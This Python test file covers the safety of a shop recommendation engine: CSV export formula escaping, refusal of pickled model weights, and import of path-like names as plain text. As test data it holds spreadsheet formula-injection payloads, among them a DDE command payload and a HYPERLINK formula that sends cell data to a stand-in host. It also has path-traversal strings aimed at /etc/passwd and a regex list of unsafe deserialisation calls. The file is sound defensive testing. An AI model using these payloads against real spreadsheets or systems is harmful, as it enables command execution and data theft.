"""Safe files: weights are read as safetensors, never unpickled; exported cells never run as formulas;
nothing a CSV says becomes a path."""

import csv
import re
import shutil

import pytest

from engine.db import transaction
from engine.products import name_key
from engine.export import EXPORT_COLUMNS, FORMULA_STARTS, export_recommendations, safe_cell
from engine.ingest.orders import import_orders
from tests.conftest import ROOT

# Everything a spreadsheet would run, including the classic DDE payload and quotes inside the formula.
FORMULAS = ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://x.example/?d="&A1,"Click")',
            "=cmd|' /C calc'!A0", '"=1+1"', "-", "@"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_cell_becomes_text(text):
    assert safe_cell(text) == ("'" + text if text.startswith(FORMULA_STARTS) else text)


def test_numbers_and_plain_text_stay_as_they_are():
    assert [safe_cell(v) for v in (-3, 2.5, 0, None, "Tea cup", " =x")] == [-3, 2.5, 0, "", "Tea cup", " =x"]


def hostile_shop(db):
    """One recommendation per formula: in the customer's name and key, the product, its SKU and the reason."""
    with transaction(db):
        db.execute("INSERT INTO recommendation_runs (id, model, created_at) VALUES (1, 'test', '2025-01-01')")
        for i, text in enumerate(FORMULAS, start=1):
            db.execute("INSERT INTO customers (id, key_kind, external_key, name) VALUES (?, 'email', ?, ?)",
                       [i, text + str(i), text])
            db.execute("INSERT INTO products (id, sku, name, name_key, price) VALUES (?, ?, ?, ?, 1.5)",
                       [i, text + str(i), text, name_key(text) + str(i)])
            db.execute("INSERT INTO recommendations (id, run_id, customer_id, product_id, kind, rank, score)"
                       " VALUES (?, 1, ?, ?, 'discover', 1, -0.5)", [i, i, i])
            db.execute("INSERT INTO reasons (recommendation_id, text, provenance, status, created_at)"
                       " VALUES (?, ?, 'owner', 'edited', '2025-01-01')", [i, text])


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("per", ["recommendation", "customer"])
def test_export_neutralises_every_formula_in_every_column(shop, tmp_path, per):
    hostile_shop(shop)
    out = tmp_path / "export.csv"
    assert export_recommendations(shop, out, columns=[key for key, _, _ in EXPORT_COLUMNS], per=per) == \
        len(FORMULAS)
    with open(out, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not is_number(c)]
    for text in FORMULAS:
        if text.startswith(FORMULA_STARTS):
            assert "'" + text in cells  # the reason, written exactly, quotes and all
    assert "-0.5" in cells  # a number stays a number


UNSAFE_LOADS = [
    r"\bimport pickle\b", r"\bpickle\.loads?\(", r"\bjoblib\b", r"\bdill\b", r"\bcloudpickle\b",
    r"allow_pickle\s*=\s*True", r"weights_only\s*=\s*False", r"torch\.load\((?![^)]*weights_only\s*=\s*True)",
    r"use_safetensors\s*=\s*False", r"safe_serialization\s*=\s*False", r"\bmarshal\.loads?\(",
]


def test_no_code_of_ours_unpickles():
    sources = [*ROOT.glob("engine/**/*.py"), *ROOT.glob("gui/**/*.py"), *ROOT.glob("packaging/**/*.py"),
               ROOT / "main.py"]
    found = [f"{p.relative_to(ROOT)}: {m.group(0)}" for p in sources for pattern in UNSAFE_LOADS
             for m in re.finditer(pattern, p.read_text(encoding="utf-8"))]
    assert not found


def weight_files(folder):
    return sorted(p.name for p in folder.rglob("*") if p.suffix in (".safetensors", ".bin", ".pt", ".pth", ".pkl",
                                                                     ".pickle", ".ckpt", ".npy", ".npz"))


def test_the_tiny_model_is_saved_as_safetensors(tiny_model):
    assert weight_files(tiny_model) == ["model.safetensors"]


def test_a_model_folder_with_pickled_weights_is_refused(tiny_model, tmp_path):
    import torch
    from safetensors.torch import load_file

    from engine.reasons import model
    folder = tmp_path / "pickled"
    shutil.copytree(tiny_model, folder)
    torch.save(load_file(folder / "model.safetensors"), folder / "pytorch_model.bin")
    (folder / "model.safetensors").unlink()
    with pytest.raises(OSError):
        model.load_model(folder)


def test_names_in_a_csv_never_become_paths(shop, tmp_path):
    """Product, customer and order names that look like paths land in the shop as text, nowhere else."""
    folder = tmp_path / "in"
    folder.mkdir()
    path = folder / "orders.csv"
    path.write_text("Name,Email,Created at,Lineitem quantity,Lineitem name,Lineitem price,Lineitem sku\n"
                    "../../evil,../x@example.com,2025-05-01 10:00:00,1,../../../etc/passwd,1.00,/tmp/evil\n"
                    "C:\\Windows\\x,a@example.com,2025-05-01 10:00:00,1,\\\\server\\share\\x.csv,1.00,..\\..\\y\n")
    before = files(tmp_path)
    report = import_orders(shop, path)
    report.to_csv(folder / "report.csv")
    assert report.counts["lines"] == 2
    assert files(tmp_path) == before + ["in/report.csv"]
    assert shop.execute("SELECT name FROM products ORDER BY id").fetchall() == \
        [("../../../etc/passwd",), ("\\\\server\\share\\x.csv",)]


def files(folder) -> list[str]:
    """Every file under `folder` but the shop's own database files."""
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*")
                  if p.is_file() and not p.name.startswith("shop.db"))


def test_an_adapter_with_pickled_weights_is_refused(tiny_model, tmp_path):
    from engine.reasons import model
    folder = tmp_path / "adapter"
    folder.mkdir()
    (folder / "adapter_config.json").write_text("{}")
    (folder / "adapter_model.bin").write_bytes(b"not read")
    with pytest.raises(model.ModelMissing, match="adapter_model.safetensors"):
        model.load_model(tiny_model, adapter=folder)
